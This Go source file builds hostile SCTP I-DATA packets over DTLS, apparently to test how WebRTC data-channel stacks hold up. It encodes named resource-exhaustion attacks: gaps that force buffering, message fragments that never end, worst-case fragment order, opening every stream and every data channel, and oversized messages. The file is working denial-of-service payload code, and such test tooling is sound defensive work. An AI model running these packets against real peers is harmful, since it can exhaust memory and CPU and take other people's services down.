//go:build linux

package hostile

import (
	"encoding/binary"
	"hash/crc32"
	"net"
)

// sctpAttacks are what chunks hold that no honest stack sends, by the number of the chunk.
var sctpAttacks = map[string]chunks{
	// One-byte messages behind a gap: all are kept until it is filled.
	"gap": func(a *association, k uint32) chunk { return chunk{tsn: a.tsn + 1 + k, message: 100 + k, flags: whole} },
	// Pieces of a message that has no end.
	"pieces": func(a *association, k uint32) chunk {
		return chunk{tsn: a.tsn + k, message: 100, piece: 1 + k}
	},
	// The same in an order that is as bad as can be for who sorts.
	"shuffled": func(a *association, k uint32) chunk {
		return chunk{tsn: a.tsn + k, message: 100, piece: 1 + k*40_503%65_521}
	},
	// Every stream there may be.
	"streams": func(a *association, k uint32) chunk {
		return chunk{tsn: a.tsn + k, stream: uint16(3 + 2*k), flags: whole}
	},
	// Data channels, each opened in order (RFC 8832).
	"channels": func(a *association, k uint32) chunk {
		return chunk{tsn: a.tsn + k, stream: uint16(3 + 2*k), flags: whole, control: true, data: channelOpen}
	},
	// Whole messages that are longer than any link takes.
	"large": func(a *association, k uint32) chunk {
		c := chunk{tsn: a.tsn + k, message: 100 + k/largePieces, piece: k % largePieces, flags: unordered, data: make([]byte, largePiece)}
		switch c.piece {
		case 0:
			c.flags |= first
		case largePieces - 1:
			c.flags |= last
		}
		return c
	},
}

// channelOpen is DATA_CHANNEL_OPEN of a reliable channel "x" (RFC 8832 §5.1).
var channelOpen = []byte{3, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 'x'}

// Flags of a chunk (RFC 8260 §2.1).
const (
	last      = 1
	first     = 2
	whole     = first | last // it is all of a message
	unordered = 4
)

// A large message has so many pieces, each of which fills a packet: 71 KiB, where 65 are
// the most.
const (
	largePieces = 64
	largePiece  = 1140
)

// chunks returns the k-th chunk of an attack.
type chunks func(a *association, k uint32) chunk

// chunk is an I-DATA chunk (RFC 8260 §2.1).
type chunk struct {
	tsn     uint32
	stream  uint16
	message uint32
	piece   uint32 // of a message, from 0 on; the first has none
	flags   byte
	control bool   // data is of DCEP
	data    []byte // nil: one byte
}

func (c chunk) append(p []byte) []byte {
	const control, bytes = 50, 53 // RFC 8831 §8
	data, rest := c.data, uint32(bytes)
	if data == nil {
		data = []byte{'x'}
	}
	if c.control {
		rest = control
	}
	if c.flags&first == 0 {
		rest = c.piece
	}
	p = append(p, 64, c.flags)
	p = binary.BigEndian.AppendUint16(p, uint16(20+len(data)))
	p = binary.BigEndian.AppendUint32(p, c.tsn)
	p = binary.BigEndian.AppendUint16(p, c.stream)
	p = binary.BigEndian.AppendUint16(p, 0)
	p = binary.BigEndian.AppendUint32(p, c.message)
	p = binary.BigEndian.AppendUint32(p, rest)
	p = append(p, data...)
	for len(p)%4 != 0 {
		p = append(p, 0)
	}
	return p
}

// association is one end of an SCTP association that its stack has lost control of.
type association struct {
	conn net.Conn // DTLS
	head []byte   // ports and tag of each packet
	tsn  uint32   // the next
	sent uint32   // chunks
}

// packet is one more packet of chunks.
func (a *association) packet(attack chunks) []byte {
	p := append(append(make([]byte, 0, 2048), a.head...), 0, 0, 0, 0)
	for len(p) < 1150 {
		p = attack(a, a.sent).append(p)
		a.sent++
	}
	binary.LittleEndian.PutUint32(p[8:], crc32.Checksum(p, crc32.MakeTable(crc32.Castagnoli)))
	return p
}
